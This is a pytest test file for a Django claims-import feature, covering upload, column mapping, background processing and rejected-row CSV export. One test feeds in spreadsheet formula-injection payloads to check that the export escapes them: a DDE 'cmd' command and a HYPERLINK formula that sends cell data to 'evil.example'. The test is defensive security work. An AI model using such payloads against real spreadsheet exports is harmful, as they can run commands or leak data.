from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import Workbook

from claims.models import Claim, ClaimImport
from claims.tests.factories import ClaimImportErrorFactory, ClaimImportFactory, PayerFactory

CSV = (
    "Practice AR report\n"
    "Claim #,Patient,DOB,DOS,Balance,Payer ID\n"
    "A-1,Maria Lopez,03/14/1980,09/01/2026,$100.00,60054\n"
    "A-2,Bo Chan,01/01/1990,13/45/2026,$5.00,60054\n"
    "TOTAL,,,,$105.00,\n"
)


def upload(client, content: str = CSV, name: str = "ar.csv", **extra):
    return client.post("/claims/import/", {"file": SimpleUploadedFile(name, content.encode()), **extra})


@pytest.fixture
def aetna(practice):
    return PayerFactory(practice=practice, name="Aetna", payer_id="60054")


@pytest.mark.django_db
def test_it_walks_a_biller_from_upload_to_report(teammate_client, aetna):
    response = upload(teammate_client)
    claim_import = ClaimImport.objects.get()
    assert response["Location"] == f"/claims/import/{claim_import.pk}/columns/"

    page = teammate_client.get(response["Location"]).content.decode()
    assert "header found on row 2" in page
    assert "Maria Lopez" in page  # the first values of each column

    columns = {"col_0": "claim_number", "col_1": "patient_name", "col_2": "patient_dob", "col_3": "date_of_service"}
    response = teammate_client.post(
        f"/claims/import/{claim_import.pk}/columns/", {**columns, "col_4": "amount", "col_5": "payer_id"}
    )
    assert response["Location"] == f"/claims/import/{claim_import.pk}/"

    report = teammate_client.get(response["Location"]).content.decode()
    assert "imported 1, updated 0, rejected 1" in report
    assert "13/45/2026 is not a real date" in report
    assert Claim.objects.get().claim_number == "A-1"


@pytest.mark.django_db
def test_it_refuses_a_file_that_is_not_a_spreadsheet(owner_client):
    response = owner_client.post("/claims/import/", {"file": SimpleUploadedFile("scan.pdf", b"%PDF-1.7\n\x00\x01")})

    assert response.status_code == 400
    assert b"not a CSV or Excel" in response.content
    assert not ClaimImport.objects.exists()


@pytest.mark.django_db
def test_it_asks_for_a_file(owner_client):
    response = owner_client.post("/claims/import/", {})

    assert response.status_code == 400
    assert b"This field is required" in response.content


@pytest.mark.django_db
def test_it_refuses_a_payer_of_another_practice(owner_client, other_practice, aetna):
    foreign = PayerFactory(practice=other_practice)

    response = upload(owner_client, payer=foreign.pk)

    assert response.status_code == 400
    assert not ClaimImport.objects.exists()


@pytest.mark.django_db
def test_it_explains_a_mapping_that_cannot_work(owner_client, aetna):
    upload(owner_client)
    claim_import = ClaimImport.objects.get()

    response = owner_client.post(f"/claims/import/{claim_import.pk}/columns/", {"col_0": "claim_number"})

    assert response.status_code == 400
    assert b"Choose the column with the amount." in response.content
    claim_import.refresh_from_db()
    assert claim_import.status == ClaimImport.Status.MAPPING
    assert not Claim.objects.exists()


@pytest.mark.django_db
def test_it_runs_large_files_in_the_background(owner_client, aetna, settings, django_capture_on_commit_callbacks):
    settings.CLAIM_IMPORT_INLINE_ROWS = 1
    upload(owner_client)
    claim_import = ClaimImport.objects.get()
    mapping = {
        f"col_{i}": f
        for i, f in enumerate(["claim_number", "patient_name", "patient_dob", "date_of_service", "amount", "payer_id"])
    }

    delay_path = "claims.services.tasks.run_claim_import.delay"
    with mock.patch(delay_path) as delay, django_capture_on_commit_callbacks(execute=True):
        owner_client.post(f"/claims/import/{claim_import.pk}/columns/", mapping)

    delay.assert_called_once_with(claim_import.pk)
    claim_import.refresh_from_db()
    assert claim_import.status == ClaimImport.Status.QUEUED
    page = owner_client.get(f"/claims/import/{claim_import.pk}/").content.decode()
    assert 'role="progressbar"' in page
    assert 'hx-trigger="every 1s"' in page


@pytest.mark.django_db
def test_it_polls_progress_and_refreshes_when_done(owner_client, practice):
    running = ClaimImportFactory(
        practice=practice, status=ClaimImport.Status.RUNNING, total_rows=200, processed_rows=50
    )

    partial = owner_client.get(f"/claims/import/{running.pk}/", HTTP_HX_REQUEST="true")
    body = partial.content.decode()
    assert 'id="import-progress"' in body and "<html" not in body
    assert 'aria-valuenow="25"' in body

    ClaimImport.objects.filter(pk=running.pk).update(status=ClaimImport.Status.DONE)
    done = owner_client.get(f"/claims/import/{running.pk}/", HTTP_HX_REQUEST="true")
    assert done["HX-Refresh"] == "true"


@pytest.mark.django_db
def test_it_downloads_the_rejected_rows(teammate_client, practice):
    claim_import = ClaimImportFactory(practice=practice, original_name="march.csv", rejected_count=1)
    ClaimImportErrorFactory(claim_import=claim_import)

    response = teammate_client.get(f"/claims/import/{claim_import.pk}/rejected-rows.csv")

    assert response["Content-Disposition"] == 'attachment; filename="march-rejected-rows.csv"'
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines == ["Row,Column,Value,Problem", "7,DOS,13/45/2026,13/45/2026 is not a real date. Use MM/DD/YYYY."]


@pytest.mark.django_db
def test_it_keeps_formulas_from_the_uploaded_file_inert_in_the_report(teammate_client, practice):
    claim_import = ClaimImportFactory(practice=practice, rejected_count=2)
    ClaimImportErrorFactory(
        claim_import=claim_import,
        row_number=3,
        column="=cmd|' /C calc'!A0",
        value='=HYPERLINK("http://evil.example/?"&A1)',
        message="-2+3 is not an amount.",
    )
    ClaimImportErrorFactory(
        claim_import=claim_import, row_number=4, column="Amount", value="-12.50", message="Amount cannot be negative."
    )

    response = teammate_client.get(f"/claims/import/{claim_import.pk}/rejected-rows.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    link = '=HYPERLINK("http://evil.example/?"&A1)'
    assert rows[1] == ["3", "'=cmd|' /C calc'!A0", f"'{link}", "'-2+3 is not an amount."]
    # A plain negative number is a number, not a formula.
    assert rows[2] == ["4", "Amount", "-12.50", "Amount cannot be negative."]


@pytest.mark.django_db
def test_it_quotes_and_encodes_the_report_file_name(teammate_client, practice):
    claim_import = ClaimImportFactory(practice=practice, original_name='März "final".csv')

    response = teammate_client.get(f"/claims/import/{claim_import.pk}/rejected-rows.csv")

    assert response["Content-Disposition"] == ("attachment; filename*=utf-8''M%C3%A4rz%20%22final%22-rejected-rows.csv")


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["", "columns/", "rejected-rows.csv"])
def test_it_hides_another_practices_import(owner_client, other_practice, suffix):
    claim_import = ClaimImportFactory(practice=other_practice)

    assert owner_client.get(f"/claims/import/{claim_import.pk}/{suffix}").status_code == 404


@pytest.mark.django_db
def test_it_sends_anonymous_users_to_sign_in(client):
    assert client.get("/claims/import/")["Location"].startswith("/accounts/login/")


@pytest.mark.django_db
def test_it_rejects_other_methods(owner_client, practice):
    claim_import = ClaimImportFactory(practice=practice)
    assert owner_client.post(f"/claims/import/{claim_import.pk}/").status_code == 405


@pytest.mark.django_db
def test_it_shows_a_failed_import_instead_of_an_error_page(owner_client, aetna):
    upload(owner_client)
    claim_import = ClaimImport.objects.get()
    fields = ["claim_number", "patient_name", "patient_dob", "date_of_service", "amount", "payer_id"]
    # The stored file disappears before the import runs: an error on our side.
    claim_import.file.storage.delete(claim_import.file.name)

    response = owner_client.post(
        f"/claims/import/{claim_import.pk}/columns/", {f"col_{i}": f for i, f in enumerate(fields)}, follow=True
    )

    assert response.status_code == 200
    assert b"error on our side" in response.content
    claim_import.refresh_from_db()
    assert claim_import.status == ClaimImport.Status.FAILED


@pytest.mark.django_db
def test_it_shows_excel_dates_as_dates_when_checking_columns(owner_client, aetna):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Claim #", "Patient", "DOB", "DOS", "Amount", "Payer ID"])
    sheet.append(["X-1", "Ann Lee", datetime(1976, 2, 15), datetime(2026, 8, 3), 250.5, "60054"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = owner_client.post("/claims/import/", {"file": SimpleUploadedFile("export.xlsx", buffer.getvalue())})

    page = owner_client.get(response["Location"]).content.decode()

    assert "02/15/1976" in page and "08/03/2026" in page
    assert "00:00:00" not in page


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["", "{pk}/columns/", "{pk}/"])
def test_it_shows_the_claims_tabs_with_imports_current(owner_client, practice, suffix):
    # Waiting for its column check, so that the column page shows rather than redirects.
    claim_import = ClaimImportFactory(practice=practice, status=ClaimImport.Status.MAPPING)

    page = owner_client.get(f"/claims/import/{suffix.format(pk=claim_import.pk)}").content.decode()

    tabs = page.partition('<nav class="tabs" aria-label="Claims sections">')[2].partition("</nav>")[0]
    assert '<a class="tab" href="/claims/import/" aria-current="page">Imports</a>' in tabs
    assert tabs.count('aria-current="page"') == 1


@pytest.mark.django_db
def test_it_imports_the_charge_and_notes_that_the_balance_becomes_the_opening_balance(owner_client, aetna):
    content = (
        "Claim #,Patient,DOB,DOS,Balance,Charge,Payer ID\nA-1,Maria Lopez,03/14/1980,09/01/2026,$40.00,$100.00,60054\n"
    )
    upload(owner_client, content)
    claim_import = ClaimImport.objects.get()

    page = owner_client.get(f"/claims/import/{claim_import.pk}/columns/").content.decode()

    assert claim_import.column_mapping == {
        "0": "claim_number",
        "1": "patient_name",
        "2": "patient_dob",
        "3": "date_of_service",
        "4": "opening_balance",
        "5": "amount",
        "6": "payer_id",
    }
    note = (
        "This looks like the balance still owed. It becomes the claim&#x27;s opening balance: the part of "
        "Charge it leaves out is posted to the ledger as paid or adjusted before the import."
    )
    assert f'<p class="muted small" id="id_col_4_note">{note}</p>' in page
    assert 'aria-describedby="id_col_4_note"' in page


@pytest.mark.django_db
def test_it_says_an_import_uploaded_under_a_minute_ago_was_uploaded_just_now(owner_client, practice):
    claim_import = ClaimImportFactory(practice=practice)

    detail = owner_client.get(f"/claims/import/{claim_import.pk}/").content.decode()
    recent = owner_client.get("/claims/import/").content.decode()

    assert "Uploaded just now" in detail
    assert "<td>just now</td>" in recent
    assert "0 minutes" not in detail + recent


@pytest.mark.django_db
def test_it_says_how_long_ago_an_older_import_was_uploaded(owner_client, practice):
    claim_import = ClaimImportFactory(practice=practice)
    ClaimImport.objects.filter(pk=claim_import.pk).update(created_at=timezone.now() - timedelta(minutes=5, seconds=3))

    detail = owner_client.get(f"/claims/import/{claim_import.pk}/").content.decode()

    assert "Uploaded 5\xa0minutes ago" in detail
